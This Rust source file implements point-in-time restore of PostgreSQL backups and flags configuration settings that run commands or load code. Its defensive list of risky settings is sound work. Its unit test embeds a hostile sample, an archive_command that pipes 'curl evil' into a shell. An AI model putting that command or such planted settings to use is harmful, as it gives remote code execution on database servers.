//! Point-in-time restore of a PostgreSQL cluster: picks the newest base backup that ends
//! before the target, checks the archive holds the WAL from that backup to the target,
//! lays the data directory down (or corrects it block by block with `delta`), and writes
//! `recovery.signal` with the recovery settings. PostgreSQL then replays the WAL, fetched
//! through `custos wal-fetch`, and promotes at the target.
//!
//! A base backup is written by a backup key, and its configuration files become the
//! restored server's: every setting in them that runs a command, loads code or reads
//! another file is named in the report (and by the CLI, as a warning) before anyone
//! starts the server, with the key and host that wrote the snapshot.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};
use custos_model::{Error, Kind, Lsn, Result};
use custos_repo::snapshot::PgInfo;
use custos_repo::{Repository, Snapshot};
use serde::Serialize;

use crate::progress::Progress;
use crate::restore::{restore_files, RestoreOptions, RestoreReport};

/// Where recovery stops.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "kind", content = "value", rename_all = "lowercase")]
pub enum Target {
    /// Replay every archived segment (the default).
    Latest,
    /// Stop as soon as the backup is consistent.
    Immediate,
    Time(DateTime<Utc>),
    Lsn(Lsn),
    Xid(u64),
    /// A restore point made with `pg_create_restore_point`.
    Name(String),
}

pub struct PgRestoreOptions<'a> {
    pub to: PathBuf,
    pub target: Target,
    /// A snapshot id (prefix) to restore instead of choosing by target.
    pub snapshot: Option<String>,
    /// Cluster name (custos.toml) or system identifier, when the repository holds several.
    pub cluster: Option<String>,
    pub delta: bool,
    /// What PostgreSQL runs to fetch WAL (`... wal-fetch %f %p`).
    pub restore_command: String,
    /// More settings for postgresql.auto.conf (`port = 5433`, `archive_mode = off`).
    pub extra_settings: Vec<String>,
    /// Files `restore_command` reads, or runs (true): run as root, the restore checks the
    /// data folder's owner, who runs the server, can reach each before writing anything.
    pub command_needs: Vec<(PathBuf, bool)>,
    pub progress: &'a dyn Progress,
    /// Ask archived (cold) objects back first and wait until they are readable.
    pub cold: bool,
}

#[derive(Debug, Clone, Serialize)]
pub struct PgRestoreReport {
    pub snapshot: String,
    pub backup: PgInfo,
    pub target: Target,
    pub data_directory: String,
    /// The newest archived segment of the cluster and when it was archived.
    pub archive_end: Option<(String, Option<DateTime<Utc>>)>,
    pub restore: RestoreReport,
    /// What was written to postgresql.auto.conf.
    pub settings: Vec<String>,
    /// How far this backup can be recovered with the archive as it is.
    pub window: crate::postgres::archive::Window,
    /// What the DBA should know before starting the server (a gap in the archive).
    pub warnings: Vec<String>,
    /// Settings of the restored configuration that run commands, load code or read other
    /// files: check them before starting the server.
    pub risky_settings: Vec<RiskySetting>,
    /// The key that wrote the snapshot, its role (when its key file still exists) and
    /// host.
    pub written_by: WrittenBy,
}

#[derive(Debug, Clone, Serialize)]
pub struct WrittenBy {
    pub key: custos_model::KeyId,
    pub role: Option<String>,
    pub host: String,
}

/// A setting of the restored configuration that runs something when the server starts,
/// archives or recovers.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct RiskySetting {
    pub file: String,
    pub line: usize,
    pub name: String,
    pub value: String,
    /// What it makes the server do.
    pub does: &'static str,
}

/// Settings that run commands, load code, or make the server read files outside the
/// data directory (and so anything a backup key planted in a snapshot could use).
const RISKY: [(&str, &str); 17] = [
    (
        "archive_command",
        "runs a shell command for every WAL segment",
    ),
    ("archive_library", "loads a library to archive WAL"),
    ("restore_command", "runs a shell command during recovery"),
    (
        "recovery_end_command",
        "runs a shell command when recovery ends",
    ),
    (
        "archive_cleanup_command",
        "runs a shell command at every restartpoint",
    ),
    ("ssl_passphrase_command", "runs a shell command at start"),
    ("shared_preload_libraries", "loads libraries at start"),
    (
        "session_preload_libraries",
        "loads libraries in every session",
    ),
    (
        "local_preload_libraries",
        "loads libraries in every session",
    ),
    (
        "dynamic_library_path",
        "changes where libraries are loaded from",
    ),
    ("jit_provider", "loads a library"),
    ("include", "reads another configuration file"),
    ("include_if_exists", "reads another configuration file"),
    ("include_dir", "reads other configuration files"),
    (
        "data_directory",
        "points the server at another data directory",
    ),
    (
        "hba_file",
        "reads client authentication rules from another file",
    ),
    ("ident_file", "reads user name maps from another file"),
];

/// The settings of a configuration file's text as (line, lower-case name, unquoted
/// value), leaving out the block a custos restore writes (`ours`: only that block).
fn conf_settings(text: &str, ours_only: bool) -> Vec<(usize, String, String)> {
    let mut out = vec![];
    let mut ours = false;
    for (i, raw) in text.lines().enumerate() {
        if raw == BEGIN {
            ours = true;
        } else if raw == END {
            ours = false;
        }
        let line = strip_comment(raw).trim();
        if ours != ours_only || line.is_empty() {
            continue;
        }
        let (name, value) = match line.find(|c: char| c == '=' || c.is_whitespace()) {
            Some(at) => (
                &line[..at],
                line[at..].trim_start().trim_start_matches('=').trim(),
            ),
            None => (line, ""),
        };
        let value = value
            .strip_prefix('\'')
            .and_then(|v| v.strip_suffix('\''))
            .unwrap_or(value)
            .replace("''", "'");
        out.push((i + 1, name.to_ascii_lowercase(), value));
    }
    out
}

/// The risky settings of one configuration file's text, leaving out the block a custos
/// restore writes (its own recovery settings).
pub fn risky_settings(file: &str, text: &str) -> Vec<RiskySetting> {
    conf_settings(text, false)
        .into_iter()
        .filter(|(_, _, v)| !v.is_empty())
        .filter_map(|(line, name, value)| {
            let (_, does) = RISKY.iter().find(|(n, _)| *n == name)?;
            Some(RiskySetting {
                file: file.into(),
                line,
                name,
                value,
                does,
            })
        })
        .collect()
}

/// Whether a server already listens on `port` on this host: a Unix socket for it in one
/// of `sockets`, or a TCP listener on the loopback.
fn port_in_use(port: u16, sockets: &[String]) -> bool {
    sockets
        .iter()
        .any(|d| Path::new(d).join(format!(".s.PGSQL.{port}")).exists())
        || std::net::TcpStream::connect_timeout(
            &std::net::SocketAddr::from(([127, 0, 0, 1], port)),
            std::time::Duration::from_millis(300),
        )
        .is_ok()
}

/// A configuration line without its comment (a `#` outside quotes).
fn strip_comment(line: &str) -> &str {
    let mut quoted = false;
    for (i, c) in line.char_indices() {
        match c {
            '\'' => quoted = !quoted,
            '#' if !quoted => return &line[..i],
            _ => {}
        }
    }
    line
}

const BEGIN: &str = "# custos restore: begin (removed by the next custos restore)";
const END: &str = "# custos restore: end";

/// The PostgreSQL backups of one cluster, oldest first.
pub fn backups(repo: &Repository, cluster: Option<&str>) -> Result<Vec<(Snapshot, PgInfo)>> {
    let all: Vec<(Snapshot, PgInfo)> = repo
        .snapshots_for_reading()?
        .into_iter()
        .filter_map(|s| s.summary.pg.clone().map(|p| (s, p)))
        .filter(|(s, p)| {
            cluster.is_none_or(|c| {
                p.cluster.as_deref() == Some(c)
                    || p.system_id.to_string() == c
                    || s.summary.source == c
            })
        })
        .collect();
    let ids: BTreeSet<u64> = all.iter().map(|(_, p)| p.system_id).collect();
    if ids.len() > 1 {
        let names: Vec<String> = all
            .iter()
            .map(|(s, p)| format!("{} ({})", p.system_id, s.summary.source))
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect();
        return Err(Error::config(format!(
            "the repository holds backups of {} clusters: {}",
            ids.len(),
            names.join(", ")
        ))
        .hint("choose one with --cluster NAME_OR_SYSTEM_ID"));
    }
    if all.is_empty() {
        return Err(Error::new(
            Kind::NotFound,
            match cluster {
                Some(c) => format!("no PostgreSQL backup of cluster `{c}` in the repository"),
                None => "no PostgreSQL backup in the repository".into(),
            },
        )
        .hint("take one with `custos backup postgres`; `custos snapshots` lists what there is"));
    }
    Ok(all)
}

/// Picks the backup to start from: the newest that is consistent before the target.
fn choose(
    repo: &Repository,
    list: &[(Snapshot, PgInfo)],
    target: &Target,
    spec: Option<&str>,
) -> Result<(Snapshot, PgInfo)> {
    let reaches = |p: &PgInfo| match target {
        Target::Time(t) => p.stop_time <= *t,
        Target::Lsn(l) => p.stop_lsn <= *l,
        Target::Xid(x) => p.next_xid <= *x,
        Target::Latest | Target::Immediate | Target::Name(_) => true,
    };
    let describe = |p: &PgInfo| {
        format!(
            "it is consistent from {} (LSN {}, next xid {})",
            p.stop_time.format("%Y-%m-%d %H:%M:%S%.3f UTC"),
            p.stop_lsn,
            p.next_xid
        )
    };
    if let Some(spec) = spec {
        let snap = repo.find_snapshot(spec, |s: &custos_repo::SnapshotSummary| s.pg.is_some())?;
        let (s, p) = list
            .iter()
            .find(|(s, _)| s.id == snap.id)
            .cloned()
            .ok_or_else(|| {
                Error::config(format!(
                    "snapshot {} is not a backup of this cluster",
                    snap.id.short()
                ))
            })?;
        if !reaches(&p) {
            return Err(Error::config(format!(
                "snapshot {} cannot reach the target: {}",
                s.id.short(),
                describe(&p)
            ))
            .hint("choose an older snapshot, or leave out --snapshot to pick one"));
        }
        return Ok((s, p));
    }
    list.iter()
        .rev()
        .find(|(_, p)| reaches(p))
        .cloned()
        .ok_or_else(|| {
            let (s, p) = &list[0];
            Error::config(format!(
                "the target is before the oldest backup: snapshot {} is the oldest and {}",
                s.id.short(),
                describe(p)
            ))
            .hint("no backup can be recovered to a point before it ends; choose a later target")
        })
}

/// What a restore would do, measured before it does anything (`restore postgres
/// --preview`): the backup it starts from, how much it writes, how much WAL recovery
/// replays.
#[derive(Debug, Clone, Serialize)]
pub struct PgPreview {
    pub snapshot: String,
    pub backup: PgInfo,
    pub target: Target,
    /// Bytes the restore writes (the data directory's size).
    pub bytes: u64,
    /// Archived WAL files recovery replays from the backup's start to the target (an
    /// estimate for a time target: in proportion to where it lies in the archive).
    pub wal_files: u64,
    pub wal_bytes: u64,
    pub window: crate::postgres::archive::Window,
}

pub fn preview(
    repo: &Repository,
    target: &Target,
    snapshot: Option<&str>,
    cluster: Option<&str>,
) -> Result<PgPreview> {
    let list = backups(repo, cluster)?;
    let (snap, info) = choose(repo, &list, target, snapshot)?;
    let wal = repo.wal_objects()?;
    let archive =
        crate::postgres::archive::Archive::load(repo, info.system_id, info.segment_size, &wal)?;
    let window = archive.window(repo, &info)?;
    let first = info.start_lsn.segment(info.segment_size);
    let last = window
        .last_segment
        .as_deref()
        .and_then(|n| custos_sources::postgres::wal::segment_number(n, info.segment_size))
        .map_or(first, |(_, n)| n);
    let segs: Vec<u64> = wal
        .iter()
        .filter(|(sys, name, _)| {
            *sys == info.system_id
                && name.len() == 24
                && custos_sources::postgres::wal::segment_number(name, info.segment_size)
                    .is_some_and(|(_, n)| n >= first && n <= last)
        })
        .map(|(_, _, size)| *size)
        .collect();
    let share = match (target, window.until) {
        (Target::Time(t), Some(until)) if until > info.stop_time => {
            ((*t - info.stop_time).num_milliseconds() as f64
                / (until - info.stop_time).num_milliseconds() as f64)
                .clamp(0.0, 1.0)
        }
        _ => 1.0,
    };
    Ok(PgPreview {
        snapshot: snap.id.to_string(),
        bytes: snap.summary.stats.bytes,
        target: target.clone(),
        wal_files: (segs.len() as f64 * share).ceil() as u64,
        wal_bytes: (segs.iter().sum::<u64>() as f64 * share) as u64,
        backup: info,
        window,
    })
}

pub fn restore_postgres(repo: &Repository, o: &PgRestoreOptions) -> Result<PgRestoreReport> {
    repo.require_restore("restore a database")?;
    let list = backups(repo, o.cluster.as_deref())?;
    tracing::debug!("restore: {} backups listed", list.len());
    let (snap, info) = choose(repo, &list, &o.target, o.snapshot.as_deref())?;
    tracing::debug!("restore: chose snapshot {}", snap.id.short());
    if o.cold {
        crate::cold::gate(repo, &snap)?;
    }

    // The archive must hold the WAL from the backup's start (unless the backup carries
    // it), without a hole, up to the target: checked offline, before anything is written.
    let archive = crate::postgres::archive::Archive::load(
        repo,
        info.system_id,
        info.segment_size,
        &repo.wal_objects()?,
    )?;
    let window = archive.window(repo, &info)?;
    if !window.missing.is_empty() {
        return Err(Error::integrity(format!(
            "snapshot {} needs WAL that is not archived: {}",
            snap.id.short(),
            window.missing.join(", ")
        ))
        .hint("check archiving with `custos pg check`; a backup taken with --wal carries this WAL itself"));
    }
    let fmt = |t: &DateTime<Utc>| t.format("%Y-%m-%d %H:%M:%S%.3f UTC").to_string();
    let stops = match (&window.last_segment, &window.until) {
        (Some(seg), Some(at)) => format!("the end of {seg} (archived {})", fmt(at)),
        (Some(seg), None) => format!("the end of {seg}"),
        (None, _) => format!("the backup's own end ({})", fmt(&window.from)),
    };
    let past = match (&o.target, &window.until) {
        (Target::Lsn(l), _) => *l > window.until_lsn,
        (Target::Time(t), Some(u)) => t > u,
        (Target::Time(t), None) => *t > window.from,
        _ => false,
    };
    let mut warnings = vec![];
    match (&window.gap, past) {
        (Some(gap), true) => {
            return Err(Error::integrity(format!(
                "the target is past a gap in the WAL archive: {gap} is missing, so recovery from snapshot {} stops at {stops}",
                snap.id.short()
            ))
            .hint("choose a target before that, or put the missing WAL back into the repository (`custos wal-push` from the server's pg_wal or another copy); `custos verify` lists every gap"));
        }
        (None, true) => {
            return Err(Error::config(format!(
                "the target is past the end of the archived WAL: recovery from snapshot {} stops at {stops}",
                snap.id.short()
            ))
            .hint("the WAL written since is not archived yet: run `SELECT pg_switch_wal()` on the server, wait for archiving (`custos pg check`), then restore"));
        }
        (Some(gap), false)
            if !matches!(
                o.target,
                Target::Lsn(_) | Target::Time(_) | Target::Immediate
            ) =>
        {
            warnings.push(format!(
                "the WAL archive has a gap ({gap} is missing): recovery stops at {stops}; a target after it is not reached"
            ));
        }
        _ => {}
    }
    let reach: Option<Reach> = window
        .last_segment
        .clone()
        .map(|name| (0, name, window.until));

    // PostgreSQL runs restore_command as the data folder's owner: a root-only password
    // file or binary would fail at the first WAL fetch, after the whole restore.
    let body = repo.snapshot_body(&snap.id)?;
    // What the backup key recorded: at most the three files PostgreSQL names.
    let body_config: Vec<String> = body.pg_config_outside.iter().take(3).cloned().collect();
    if unsafe { libc::geteuid() } == 0 {
        if let Some(root) = body.root.filter(|r| r.uid != 0) {
            let user = crate::postgres::access::User::of(root.uid, root.gid);
            for (path, exec) in &o.command_needs {
                if let Some(why) = user.cannot(path, *exec) {
                    return Err(Error::config(format!(
                        "PostgreSQL will run restore_command as {} (uid {}, the owner of the restored data folder), who cannot use {}: {why}",
                        user.name,
                        root.uid,
                        path.display()
                    ))
                    .hint(format!("keep the password file (and the custos binary and its config) where {} can read them, e.g. /etc/custos/restore.pw owned by {} with mode 0600, or run the restore as {}; or pass --restore-command", user.name, user.name, user.name)));
                }
            }
        }
    }
    if o.delta && o.to.join("postmaster.pid").exists() {
        return Err(Error::config(format!(
            "{} holds postmaster.pid: a server may be running on it",
            o.to.display()
        ))
        .hint("stop that server (pg_ctl -D DIR stop) before a delta restore; if it is not running, remove the stale postmaster.pid"));
    }
    // A data directory this restore creates is removed if the restore fails: a half-laid
    // directory with a backup_label must never be mistaken for a restore and started.
    let created_here = !o.to.exists();
    // The report, the settings written, the risky ones, the port, the socket folders
    // its configuration names (None: the server's defaults), and whether the data
    // directory holds a postgresql.conf.
    type Laid = (
        RestoreReport,
        Vec<String>,
        Vec<RiskySetting>,
        u16,
        Option<Vec<String>>,
        bool,
    );
    let laid = (|| -> Result<Laid> {
        let restore = restore_files(
            repo,
            &snap,
            &o.to,
            &RestoreOptions {
                subtree: None,
                include: vec![],
                overwrite: false,
                delta: o.delta,
                last: Some(custos_model::PathBytes::from("global/pg_control")),
                discard_on_failure: created_here,
                progress: o.progress,
            },
        )
        .map_err(|e| {
            if e.message.contains("is not empty") {
                e.hint("restore into a new or empty folder, or pass --delta to correct an existing data directory in place")
            } else {
                e
            }
        })?;
        let mut settings = recovery_settings(&o.target, &o.restore_command);
        settings.extend(o.extra_settings.iter().cloned());
        let dir = crate::restore::target::TargetDir::open(&o.to)?;
        write_recovery(&dir, &settings, body.root)?;
        // With archiving turned off, the archive command and library do not run.
        let archiving_off = settings
            .iter()
            .any(|s| s.replace(' ', "") == "archive_mode=off");
        let mut risky = vec![];
        let mut port = 5432u16;
        let mut sockets = None;
        let mut has_conf = false;
        for name in ["postgresql.conf", "postgresql.auto.conf"] {
            let rel = custos_model::PathBytes::from(name);
            if let Some(text) = dir.read(&rel)? {
                has_conf |= name == "postgresql.conf";
                let text = String::from_utf8_lossy(&text);
                for ours in [false, true] {
                    for (_, k, v) in conf_settings(&text, ours) {
                        match k.as_str() {
                            "port" => port = v.parse().unwrap_or(port),
                            "unix_socket_directories" => {
                                sockets = Some(v.split(',').map(|d| d.trim().to_string()).collect())
                            }
                            _ => {}
                        }
                    }
                }
                risky.extend(risky_settings(name, &text).into_iter().filter(|r| {
                    !(archiving_off
                        && matches!(r.name.as_str(), "archive_command" | "archive_library"))
                }));
            }
        }
        Ok((restore, settings, risky, port, sockets, has_conf))
    })();
    let (restore, settings, risky_settings, port, sockets, has_conf) = match laid {
        Ok(x) => x,
        Err(e) => {
            if created_here {
                let _ = fs::remove_dir_all(&o.to);
            }
            return Err(e);
        }
    };
    let defaults = ["/var/run/postgresql".to_string(), "/tmp".to_string()];
    if port_in_use(port, sockets.as_deref().unwrap_or(&defaults)) {
        warnings.push(format!(
            "a server already listens on port {port} on this host (the original?): the restored one will not start on it; restore again with --port, or set `port` in postgresql.auto.conf"
        ));
    }
    // A server configured from outside its data directory (Debian's /etc/postgresql/...)
    // left none in the backup: without one the server does not start.
    if !has_conf {
        let named = if body_config.is_empty() {
            "it read its configuration from elsewhere".to_string()
        } else {
            format!(
                "the backed-up server read {}",
                body_config
                    .iter()
                    .map(|p| custos_model::path::escape_bytes(p.as_bytes()).into_owned())
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        };
        warnings.push(format!(
            "the restored data directory holds no postgresql.conf ({named}, outside its data directory; a base backup holds the data directory only): the server will not start as it is; put the configuration in place first (from your configuration backup, or pg_createcluster on Debian), copying postgresql.conf, pg_hba.conf and pg_ident.conf into the data directory without their data_directory, hba_file and ident_file lines, or start with -c config_file=FILE"
        ));
    }
    // The configuration came from the host that was backed up: on another host its
    // socket folder may not exist, and the server then stops at its start.
    for d in sockets.iter().flatten().filter(|d| d.starts_with('/')) {
        if !Path::new(d).is_dir() {
            warnings.push(format!(
                "the restored configuration puts the server's socket in {d}, which is not a folder on this host: the server will not start; restore again with --socket-dir DIR, or set `unix_socket_directories` in postgresql.auto.conf"
            ));
        }
    }
    Ok(PgRestoreReport {
        snapshot: snap.id.to_hex(),
        backup: info,
        target: o.target.clone(),
        data_directory: o.to.display().to_string(),
        archive_end: reach.map(|(_, name, pushed)| (name, pushed)),
        restore,
        settings,
        window,
        warnings,
        risky_settings,
        written_by: WrittenBy {
            key: snap.summary.key,
            role: repo
                .key_files
                .iter()
                .find(|k| k.id == snap.summary.key)
                .map(|k| k.role.as_str().to_string()),
            host: snap.summary.host.clone(),
        },
    })
}

/// The newest archived segment's number and name, and when it was archived.
type Reach = (u64, String, Option<DateTime<Utc>>);

fn quote(v: &str) -> String {
    format!("'{}'", v.replace('\'', "''"))
}

pub fn recovery_settings(target: &Target, restore_command: &str) -> Vec<String> {
    let mut s = vec![format!("restore_command = {}", quote(restore_command))];
    match target {
        Target::Latest => {}
        Target::Immediate => s.push("recovery_target = 'immediate'".into()),
        Target::Time(t) => s.push(format!(
            "recovery_target_time = {}",
            quote(&t.format("%Y-%m-%d %H:%M:%S%.6f+00").to_string())
        )),
        Target::Lsn(l) => s.push(format!("recovery_target_lsn = {}", quote(&l.to_string()))),
        Target::Xid(x) => s.push(format!("recovery_target_xid = {}", quote(&x.to_string()))),
        Target::Name(n) => s.push(format!("recovery_target_name = {}", quote(n))),
    }
    if *target != Target::Latest {
        s.push("recovery_target_action = 'promote'".into());
    }
    s
}

/// Appends the settings to postgresql.auto.conf (replacing those of an earlier restore),
/// writes recovery.signal, and gives the data directory its recorded owner and mode. Both
/// files are written inside the data directory whatever the snapshot holds: a link there
/// is an error, never followed.
fn write_recovery(
    dir: &crate::restore::target::TargetDir,
    settings: &[String],
    root: Option<custos_repo::snapshot::RootMeta>,
) -> Result<()> {
    let auto = custos_model::PathBytes::from("postgresql.auto.conf");
    let old = dir
        .read(&auto)?
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_default();
    let mut kept = String::new();
    let mut skipping = false;
    for line in old.lines() {
        if line == BEGIN {
            skipping = true;
        } else if line == END {
            skipping = false;
        } else if !skipping {
            kept.push_str(line);
            kept.push('\n');
        }
    }
    kept.push_str(BEGIN);
    kept.push('\n');
    for s in settings {
        kept.push_str(s);
        kept.push('\n');
    }
    kept.push_str(END);
    kept.push('\n');
    let owner = root
        .filter(|_| unsafe { libc::geteuid() } == 0)
        .map(|r| (r.uid, r.gid));
    dir.write(&auto, kept.as_bytes(), owner)?;
    dir.write(
        &custos_model::PathBytes::from("recovery.signal"),
        b"",
        owner,
    )?;
    if let Some(r) = root {
        use std::os::unix::fs::PermissionsExt;
        let p = dir.path();
        if let Some((uid, gid)) = owner {
            std::os::unix::fs::chown(p, Some(uid), Some(gid))
                .map_err(|e| custos_model::error::io_error(Kind::Config, p, e))?;
        }
        fs::set_permissions(p, fs::Permissions::from_mode(r.mode))
            .map_err(|e| custos_model::error::io_error(Kind::Config, p, e))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_commands_or_load_code_are_named_with_their_line() {
        let text = "# archive_command = 'commented out'\n\
                    shared_preload_libraries = 'pg_stat_statements' # stats\n\
                    ARCHIVE_COMMAND='/bin/sh -c ''curl evil | sh'''\n\
                    work_mem = 64MB\n\
                    include_dir 'conf.d'\n\
                    log_line_prefix = '# not a comment'\n\
                    archive_library = ''\n"
            .to_string()
            + BEGIN
            + "\nrestore_command = 'custos wal-fetch %f %p'\n"
            + END
            + "\n";
        let r = risky_settings("postgresql.conf", &text);
        let got: Vec<(usize, &str, &str)> = r
            .iter()
            .map(|s| (s.line, s.name.as_str(), s.value.as_str()))
            .collect();
        assert_eq!(
            got,
            vec![
                (2, "shared_preload_libraries", "pg_stat_statements"),
                (3, "archive_command", "/bin/sh -c 'curl evil | sh'"),
                (5, "include_dir", "conf.d"),
            ]
        );
    }
}
